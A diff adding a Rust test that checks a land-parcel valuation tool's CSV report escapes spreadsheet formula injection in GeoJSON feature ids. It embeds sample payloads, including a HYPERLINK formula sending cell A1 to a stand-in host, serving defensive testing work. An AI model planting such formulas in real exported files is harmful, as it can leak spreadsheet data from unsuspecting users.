@@ -50,3 +50,28 @@ fn a_batch_reports_every_parcel() {
     let missing = landtrace(dir.path(), &["check", "valuation", "nope.geojson", "--use", "住宅"]);
     assert!(!missing.status.success());
 }
+
+#[test]
+fn the_report_never_carries_a_formula() {
+    let dir = tempfile::tempdir().unwrap();
+    let square = r#"{"type":"Polygon","coordinates":[[[110.7745,35.1395],[110.7755,35.1395],[110.7755,35.1405],[110.7745,35.1405],[110.7745,35.1395]]]}"#;
+    let ids = ["=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")", "+1+cmd", "-2", "@A1", "-0.5"];
+    let features: Vec<String> = ids
+        .iter()
+        .map(|id| {
+            format!(r#"{{"type":"Feature","id":{},"properties":{{}},"geometry":{square}}}"#, serde_json::json!(id))
+        })
+        .collect();
+    let parcels = format!(r#"{{"type":"FeatureCollection","features":[{}]}}"#, features.join(","));
+    std::fs::write(dir.path().join("parcels.geojson"), parcels).unwrap();
+    let out = landtrace(dir.path(), &["check", "valuation", "parcels.geojson", "--use", "住宅"]);
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let report = String::from_utf8(out.stdout).unwrap();
+    let lines: Vec<&str> = report.trim_start_matches('\u{feff}').lines().collect();
+    assert_eq!(lines.len(), 1 + ids.len(), "{report}");
+    assert!(lines[1].starts_with(r#"1,"'=HYPERLINK(""http://x.example/?""&A1,""点击"")",ok,"#), "{}", lines[1]);
+    assert!(lines[2].starts_with("2,'+1+cmd,ok,"), "{}", lines[2]);
+    assert!(lines[3].starts_with("3,-2,ok,"), "a number stays a number: {}", lines[3]);
+    assert!(lines[4].starts_with("4,'@A1,ok,"), "{}", lines[4]);
+    assert!(lines[5].starts_with("5,-0.5,ok,"), "{}", lines[5]);
+}
